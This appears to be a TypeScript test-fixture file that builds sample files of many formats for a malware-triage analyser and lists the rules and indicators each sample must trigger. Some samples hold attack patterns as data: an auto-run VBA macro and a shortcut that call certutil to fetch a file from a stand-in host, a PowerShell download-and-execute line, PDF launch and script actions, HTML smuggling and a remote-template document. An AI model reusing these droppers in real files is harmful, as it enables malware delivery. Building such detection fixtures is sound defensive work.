import { readFileSync } from 'node:fs';
import { gzipSync, zstdCompressSync } from 'node:zlib';
import CFB from 'cfb';
import { ar, cab, floppy, iso, notebook, rar4, rar5, shortcut, tar, tinyClass, tinyElf, tinyPe, vhd, zip } from './binaries.ts';
import { sevenZip } from './seven.ts';

/** One real file of a type, and what must be said of it without running it. */
export interface TypeSample {
  name: string;
  bytes: Buffer;
  format: string;
  /** A rule that must fire, members that must come out, an indicator that must be found. */
  rule?: string;
  members?: string[];
  indicator?: string;
  limitation?: string;
}

const here = (name: string) => readFileSync(new URL(name, import.meta.url));
const script = '#!/bin/sh\necho hello from inside\n';
const inner = { 'inner.sh': script };
const link = 'http://files.example-host.net/next.bin';

/** VBA source as Office stores it, every token a literal. */
function compressedVba(source: string): Buffer {
  const chunks: Buffer[] = [Buffer.from([1])];
  for (let at = 0; at < source.length; at += 3_600) {
    const tokens: number[] = [];
    const part = Buffer.from(source.slice(at, at + 3_600), 'latin1');
    for (let n = 0; n < part.length; n += 8) tokens.push(0, ...part.subarray(n, n + 8));
    const header = Buffer.alloc(2);
    header.writeUInt16LE(0xb000 | (tokens.length - 1));
    chunks.push(header, Buffer.from(tokens));
  }
  return Buffer.concat(chunks);
}

function compound(streams: Record<string, Buffer | string>): Buffer {
  const file = CFB.utils.cfb_new();
  for (const [path, content] of Object.entries(streams)) CFB.utils.cfb_add(file, path, Buffer.from(content as Buffer));
  return Buffer.from(CFB.write(file, { type: 'buffer' }) as Buffer);
}

const macro = `Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n  Dim s\r\n  Set s = CreateObject("WScript" & ".Shell")\r\n  s.Run "cmd /c " & Chr(101) & "cho x > %TEMP%\\a.txt & certutil -urlcache -f ${link} a.exe", 0\r\nEnd Sub\r\n`;
const macros = { '/Macros/VBA/_VBA_PROJECT': Buffer.from('cc61', 'hex'), '/Macros/VBA/ThisDocument': Buffer.concat([Buffer.alloc(64), compressedVba(macro)]) };

const contentTypes = (main: string, type: string) => `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/${main}" ContentType="application/vnd.openxmlformats-officedocument.${type}.main+xml"/></Types>`;
const rels = (main: string) => `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${main}"/></Relationships>`;
const word = '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Offer 4711</w:t></w:r></w:p></w:body></w:document>';
const docx = (more: Record<string, string | Buffer> = {}) => zip({ '[Content_Types].xml': contentTypes('word/document.xml', 'wordprocessingml.document'), '_rels/.rels': rels('word/document.xml'), 'word/document.xml': word, ...more });
const remote = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://templates.example-host.net/a.dotm" TargetMode="External"/></Relationships>';
const sheet = zip({
  '[Content_Types].xml': contentTypes('xl/workbook.xml', 'spreadsheetml.sheet'), '_rels/.rels': rels('xl/workbook.xml'),
  'xl/workbook.xml': '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
  'xl/_rels/workbook.xml.rels': '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  'xl/worksheets/sheet1.xml': '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>',
});
const slides = zip({ '[Content_Types].xml': contentTypes('ppt/presentation.xml', 'presentationml.presentation'), '_rels/.rels': rels('ppt/presentation.xml'), 'ppt/presentation.xml': '<?xml version="1.0"?><p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>' });

/** An OpenDocument text whose macro runs when it is loaded. */
const odfMacro = (command: string) => zip({
  mimetype: 'application/vnd.oasis.opendocument.text',
  'content.xml': '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" xmlns:ooo="http://openoffice.org/2004/office" office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document" xlink:type="simple"/></office:event-listeners></office:scripts><office:body><office:text><text:p>Hello</text:p></office:text></office:body></office:document-content>',
  'Basic/script-lc.xml': '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries xmlns:library="http://openoffice.org/2000/library" xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/></library:libraries>',
  'Basic/Standard/script-lb.xml': '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE library:library PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "library.dtd"><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard" library:readonly="false" library:passwordprotected="false"><library:element library:name="Module1"/></library:library>',
  'Basic/Standard/Module1.xml': `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE script:module PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "module.dtd"><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">Sub Main\n  Shell("/bin/sh", 0, "-c '${command}'", True)\nEnd Sub</script:module>`,
  'META-INF/manifest.xml': '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/script-lc.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/script-lb.xml" manifest:media-type="text/xml"/><manifest:file-entry manifest:full-path="Basic/Standard/Module1.xml" manifest:media-type="text/xml"/></manifest:manifest>',
});

const pdf = (body: string) => Buffer.from(`%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n`);
const mail = (text: string, attachment: Buffer, name: string) => `From: a@example.org\r\nTo: b@example.org\r\nSubject: Invoice\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n${text}\r\n--x\r\nContent-Type: application/octet-stream; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${attachment.toString('base64')}\r\n--x--\r\n`;
const wide = (text: string) => Buffer.from(text, 'utf16le');

export async function typeSamples(): Promise<TypeSample[]> {
  const locked = await sevenZip('locked.zip', ['-tzip', '-pTulip-88', '-mem=AES256'], inner);
  return [
    // Programs
    { name: 'hello64.exe', bytes: here('hello.exe'), format: 'pe' },
    { name: 'signed.exe', bytes: here('signed.exe'), format: 'pe' },
    { name: 'tiny32.exe', bytes: tinyPe({ bits: 32 }), format: 'pe' },
    { name: 'old.exe', bytes: tinyPe({ bits: 32, version: [5, 1] }), format: 'pe' },
    { name: 'screen.scr', bytes: tinyPe({ bits: 64 }), format: 'pe' },
    { name: 'library.dll', bytes: tinyPe({ bits: 64, dll: true }), format: 'pe' },
    { name: 'managed.exe', bytes: tinyPe({ bits: 32, managed: true }), format: 'pe' },
    { name: 'installer.msi', bytes: here('installer.msi'), format: 'msi' },
    { name: 'tiny64', bytes: tinyElf(64), format: 'elf' },
    { name: 'tiny32', bytes: tinyElf(32), format: 'elf' },
    { name: 'apple', bytes: Buffer.concat([Buffer.from('cffaedfe07000001030000000200000000000000000000000000000000000000', 'hex')]), format: 'macho' },
    { name: 'program.jar', bytes: zip({ 'META-INF/MANIFEST.MF': 'Manifest-Version: 1.0\nMain-Class: A\n\n', 'A.class': tinyClass() }), format: 'jar' },
    { name: 'package.deb', bytes: ar({ 'debian-binary': Buffer.from('2.0\n'), 'control.tar.gz': gzipSync(tar({ './control': 'Package: example\n', './postinst': '#!/bin/sh\nset -e\nexit 0\n' })), 'data.tar.gz': gzipSync(tar({})) }), format: 'deb', members: ['postinst'] },
    { name: 'example.rpm', bytes: here('example.rpm'), format: 'rpm', members: ['postinstall', 'preuninstall', 'inner.sh'], rule: 'assay-rpm-scripts' },
    // Scripts
    { name: 'a.bat', bytes: Buffer.from('@echo off\r\nset a=who\r\n%a%ami\r\necho hello\r\n'), format: 'bat', rule: 'assay-windows-user' },
    { name: 'a.cmd', bytes: Buffer.from('@echo off\r\nver\r\n'), format: 'bat' },
    { name: 'a.vbs', bytes: Buffer.from('WScript.Echo "hello"\r\n'), format: 'vbs' },
    { name: 'a.vbe', bytes: Buffer.from('#@~^DgAAAA==\\ko$K6,JAQAAA==^#~@', 'latin1'), format: 'vbe' },
    { name: 'a.js', bytes: Buffer.from('WScript.Echo("hello");\r\n'), format: 'js' },
    { name: 'a.jse', bytes: Buffer.from('#@~^DgAAAA==\\ko$K6,JAQAAA==^#~@', 'latin1'), format: 'jse' },
    { name: 'a.wsf', bytes: Buffer.from('<job id="a"><script language="JScript">WScript.Echo("hello");</script></job>'), format: 'wsf' },
    { name: 'a.hta', bytes: Buffer.from('<html><hta:application id="a"/><script language="VBScript">CreateObject("WScript.Shell").Run "cmd /c whoami"</script></html>'), format: 'hta', rule: 'assay-windows-user' },
    { name: 'a.ps1', bytes: Buffer.from(`$a = 'Net.Web' + 'Client'\nIEX (New-Object $a).DownloadString('${link}')\n`), format: 'ps1', indicator: link },
    { name: 'a.sh', bytes: Buffer.from(script), format: 'sh' },
    { name: 'a.py', bytes: Buffer.from('print("hello")\n'), format: 'python3' },
    { name: 'a.pl', bytes: Buffer.from('print "hello\\n";\n'), format: 'perl' },
    { name: 'a.php', bytes: Buffer.from('<?php echo "hello";\n'), format: 'php' },
    { name: 'server.js', bytes: Buffer.from('const os = require("os");\nconsole.log(os.type());\n'), format: 'node' },
    // Documents
    { name: 'a.doc', bytes: compound({ '/WordDocument': Buffer.alloc(4096), ...macros }), format: 'doc', rule: 'assay-document-macros-auto', indicator: link },
    { name: 'a.xls', bytes: compound({ '/Workbook': Buffer.concat([Buffer.from('8500090000000000010101005800', 'hex'), Buffer.alloc(4082)]) }), format: 'xls', rule: 'assay-document-xlm' },
    { name: 'a.ppt', bytes: compound({ '/PowerPoint Document': Buffer.alloc(4096) }), format: 'ppt' },
    { name: 'a.docx', bytes: docx(), format: 'docx' },
    { name: 'template.docx', bytes: docx({ 'word/_rels/settings.xml.rels': remote }), format: 'docx', rule: 'assay-document-remote', indicator: 'http://templates.example-host.net/a.dotm' },
    { name: 'a.docm', bytes: docx({ 'word/vbaProject.bin': compound(macros) }), format: 'docm', rule: 'assay-document-macros-auto' },
    { name: 'a.xlsx', bytes: sheet, format: 'xlsx' },
    { name: 'a.pptx', bytes: slides, format: 'pptx' },
    { name: 'a.odt', bytes: odfMacro('id > /tmp/from-macro'), format: 'odt' },
    { name: 'a.rtf', bytes: Buffer.from(`{\\rtf1\\ansi Hello{\\object\\objemb\\objupdate{\\*\\objdata 01050000020000000b0000004571756174696f6e2e33000000000000000000${'00'.repeat(40)}}}}`), format: 'rtf', rule: 'assay-document-equation' },
    { name: 'plain.pdf', bytes: pdf(''), format: 'pdf' },
    { name: 'launch.pdf', bytes: pdf('/OpenAction << /S /L#61unch /Win << /F (cmd.exe) /P (/c whoami) >> >>'), format: 'pdf', rule: 'assay-pdf-launch' },
    { name: 'script.pdf', bytes: pdf(`/OpenAction << /S /JavaScript /JS (app.launchURL\\("${link}"\\)) >>`), format: 'pdf', rule: 'assay-pdf-script', indicator: link },
    { name: 'a.one', bytes: notebook(Buffer.from('@echo off\r\nwhoami\r\n')), format: 'onenote', members: ['attachment-1'] },
    { name: 'a.html', bytes: Buffer.from(`<html><body><script>var a = atob("${Buffer.from('x'.repeat(60)).toString('base64')}"); var b = new Blob([a]); location.href = URL.createObjectURL(b);</script></body></html>`), format: 'html', rule: 'assay-html-smuggling' },
    { name: 'a.svg', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), format: 'svg', rule: 'assay-svg-script' },
    { name: 'a.lnk', bytes: shortcut('..\\..\\Windows\\System32\\cmd.exe', '/c certutil -urlcache -f http://files.example-host.net/next.bin a.exe'), format: 'lnk', rule: 'assay-shortcut-shell' },
    { name: 'a.url', bytes: Buffer.from('[InternetShortcut]\r\nURL=file://host.example-host.net/share/a.exe\r\n'), format: 'url', rule: 'assay-link-program' },
    // Archives
    { name: 'crypto.zip', bytes: await sevenZip('a.zip', ['-tzip', '-pinfected', '-mem=ZipCrypto'], inner), format: 'zip', members: ['inner.sh'], rule: 'assay-archive-password' },
    { name: 'aes.zip', bytes: await sevenZip('a.zip', ['-tzip', '-pmalware', '-mem=AES256'], inner), format: 'zip', members: ['inner.sh'], rule: 'assay-archive-password' },
    { name: 'headers.7z', bytes: await sevenZip('a.7z', ['-pinfected', '-mhe=on'], inner), format: '7z', members: ['inner.sh'], rule: 'assay-archive-password' },
    { name: 'unknown.7z', bytes: await sevenZip('a.7z', ['-pnobody-knows', '-mhe=on'], inner), format: '7z', limitation: 'ARCHIVE_ENCRYPTED' },
    { name: 'a.rar', bytes: rar4('inner.sh', Buffer.from(script)), format: 'rar', members: ['inner.sh'] },
    { name: 'b.rar', bytes: rar5('inner.sh', Buffer.from(script)), format: 'rar5', members: ['inner.sh'] },
    { name: 'a.tar', bytes: tar(inner), format: 'tar', members: ['inner.sh'] },
    { name: 'a.tar.gz', bytes: gzipSync(tar(inner)), format: 'gzip', members: ['inner.sh'] },
    { name: 'a.tar.bz2', bytes: await sevenZip('a.tar.bz2', ['-tbzip2'], { 'a.tar': tar(inner) }), format: 'bzip2', members: ['inner.sh'] },
    { name: 'a.tar.xz', bytes: await sevenZip('a.tar.xz', ['-txz'], { 'a.tar': tar(inner) }), format: 'xz', members: ['inner.sh'] },
    { name: 'a.tar.zst', bytes: zstdCompressSync(tar(inner)), format: 'zstd', members: ['inner.sh'] },
    { name: 'a.cab', bytes: cab('inner.sh', Buffer.from(script)), format: 'cab', members: ['inner.sh'] },
    { name: 'a.iso', bytes: iso('inner.sh', Buffer.from(script)), format: 'iso', members: ['INNER.SH'] },
    { name: 'help.chm', bytes: here('help.chm'), format: 'chm', members: ['index.htm'], rule: 'assay-html-help-program' },
    { name: 'a.img', bytes: floppy('inner.sh', Buffer.from(script)), format: 'img', members: ['INNER.SH'] },
    { name: 'a.vhd', bytes: vhd(floppy('inner.sh', Buffer.from(script))), format: 'vhd', members: ['INNER.SH'] },
    { name: 'extractor.exe', bytes: Buffer.concat([tinyPe({ bits: 32 }), await sevenZip('a.7z', [], inner)]), format: 'pe', members: ['inner.sh'] },
    // Mail
    { name: 'a.eml', bytes: Buffer.from(mail('The password is Tulip-88.', locked, 'locked.zip')), format: 'eml', members: ['locked.zip', 'inner.sh'] },
    { name: 'a.mbox', bytes: Buffer.from(`From a@example.org Mon Nov 11 09:00:00 2024\r\n${mail('Hello', Buffer.from(script), 'inner.sh')}`), format: 'mbox', members: ['inner.sh'] },
    {
      name: 'a.msg', format: 'msg', members: ['inner.sh'],
      bytes: compound({
        '/__properties_version1.0': Buffer.alloc(32), '/__substg1.0_0037001F': wide('Invoice'), '/__substg1.0_1000001F': wide('Hello'), '/__nameid_version1.0/__substg1.0_00020102': Buffer.alloc(16),
        '/__attach_version1.0_#00000000/__properties_version1.0': Buffer.alloc(8), '/__attach_version1.0_#00000000/__substg1.0_3707001F': wide('inner.sh'), '/__attach_version1.0_#00000000/__substg1.0_37010102': Buffer.from(script),
      }),
    },
  ];
}
